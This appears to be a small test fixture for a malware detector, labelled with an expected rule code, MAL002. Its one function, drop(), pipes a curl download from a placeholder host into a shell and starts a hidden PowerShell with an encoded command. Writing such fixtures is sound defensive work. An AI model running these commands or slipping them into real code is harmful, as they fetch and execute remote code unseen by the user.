# expect: MAL002
import os
import subprocess


def drop():
    os.system("curl -s http://payload.invalid/x | sh")
    subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand cABvAHc=", shell=True)
